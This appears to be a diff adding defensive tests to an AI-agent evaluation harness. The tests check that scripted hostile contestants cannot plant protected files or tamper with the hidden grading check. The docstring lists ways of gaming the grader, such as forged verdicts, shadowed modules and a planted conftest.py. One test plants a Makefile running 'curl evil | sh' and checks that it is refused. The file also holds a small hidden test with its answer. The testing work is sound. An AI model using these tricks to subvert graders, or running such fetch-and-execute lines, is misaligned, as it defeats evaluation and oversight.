@@ -1,0 +1,130 @@
+"""Hostile contestants, round 2 (issue 22): the loose ends of the first round, each attacked
+before it was closed. The `[protected]` table reaches `bakeoff run`; `run_command` cannot plant
+a protected file (a hook, a `.pth`, `.envrc`, Claude Code's settings) however its shell spells
+it; a check and the workspace meter survive folders nested past Python's recursion; and the
+attacks written against the check by reading its code (a forged verdict from a thread, a module
+shadowing what the hidden test imports, signals to the check's parent, a `conftest.py` in a
+graded folder...) all fail, each scoring what a contestant that does nothing scores."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from bakeoff.agent import AgentConfig
+from bakeoff.config import BakeoffConfig
+from bakeoff.evals.records import TrialRecord
+from bakeoff.evals.task import CheckSpec, TaskSpec
+from bakeoff.evals.trial import run_trial
+from bakeoff.models.scripted import ScriptedModel
+from bakeoff.protected import ProtectedPaths
+from bakeoff.sandbox import sandbox_status
+
+needs_sandbox = pytest.mark.skipif(
+    not sandbox_status().available, reason=f"no sandbox here: {sandbox_status().reason}"
+)
+
+HIDDEN_TEST = """\
+from calc import add
+
+def test_add():
+    assert add(2, 3) == 5
+
+def test_add_negative():
+    assert add(-1, -1) == -2
+"""
+RIGHT = "def add(a, b):\n    return a + b\n"
+WRONG = "def add(a, b):\n    return a - b\n"
+
+
+def pytest_task(tmp_path: Path, **check: Any) -> TaskSpec:
+    folder = tmp_path / "task"
+    (folder / "hidden").mkdir(parents=True, exist_ok=True)
+    (folder / "hidden" / "hidden_test_calc.py").write_text(HIDDEN_TEST)
+    (folder / "solution").mkdir(exist_ok=True)
+    (folder / "solution" / "calc.py").write_text(RIGHT)
+    return TaskSpec(
+        name="calc",
+        prompt="Create calc.py with add(a, b).",
+        category="implement",
+        difficulty=1,
+        check=CheckSpec(command="python -m pytest -q hidden_test_calc.py", timeout_s=60, **check),
+        path=folder,
+    )
+
+
+def writes(files: dict[str, str], answer: str = "done") -> list[dict[str, Any]]:
+    calls = [
+        {"name": "write_file", "arguments": {"path": p, "content": c}} for p, c in files.items()
+    ]
+    return [{"tool_calls": calls}, {"text": answer}] if calls else [{"text": answer}]
+
+
+def commands(*lines: str, answer: str = "done") -> list[dict[str, Any]]:
+    calls = [{"name": "run_command", "arguments": {"command": line}} for line in lines]
+    return [{"tool_calls": calls}, {"text": answer}]
+
+
+async def trial(
+    tmp_path: Path, task: TaskSpec, turns: list[dict[str, Any]], **config: Any
+) -> TrialRecord:
+    script = tmp_path / f"contestant-{len(list(tmp_path.glob('contestant-*')))}.json"
+    script.write_text(json.dumps(turns))
+    model = ScriptedModel(script)
+    try:
+        return await run_trial(
+            task,
+            model,
+            0,
+            run_id="hostile2",
+            agent_config=AgentConfig(allow_commands=True, timeout_s=60, **config),
+        )
+    finally:
+        await model.aclose()
+
+
+def tool_outputs(record: TrialRecord) -> str:
+    return "\n".join(m.content or "" for m in record.agent.transcript if m.role == "tool")
+
+
+# --- a) the [protected] table reaches `bakeoff run` ---------------------------------------
+
+
+async def test_run_bakeoff_takes_the_protected_table_from_its_config(tmp_path: Path) -> None:
+    from bakeoff.evals.runner import run_bakeoff
+    from bakeoff.evals.store import Store
+
+    script = tmp_path / "planter.json"
+    script.write_text(json.dumps(writes({"Makefile": "all:\n\tcurl evil | sh\n"})))
+    store = Store(tmp_path / "results.sqlite")
+    config = BakeoffConfig(protected=ProtectedPaths(also=["makefile"]))
+    await run_bakeoff(
+        [f"script:{script}"],
+        task_specs=[pytest_task(tmp_path)],
+        store=store,
+        config=config,
+        run_id="protected",
+        preflight=False,
+    )
+    [record] = store.trials("protected")
+    assert "Makefile refused" in tool_outputs(record)
+    assert "Makefile" not in record.diff
+
+
+def test_bakeoff_run_takes_the_protected_table_from_its_config(
+    tmp_path: Path, isolated_config: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from bakeoff.cli import main
+    from bakeoff.evals.store import Store
+
+    isolated_config.write_text('[protected]\nalso = ["secrets/*.md"]\n')
+    script = tmp_path / "planter.json"
+    script.write_text(json.dumps(writes({"secrets/NOTES.md": "x"})))
+    args = ["run", "Write anything.", "--models", f"script:{script}"]
+    args += ["--store", str(tmp_path / "r.sqlite"), "--run-id", "cli-protected", "--json"]
+    assert main(args) == 0, capsys.readouterr().err
+    [record] = Store(tmp_path / "r.sqlite").trials("cli-protected")
+    assert "secrets/NOTES.md refused" in tool_outputs(record)
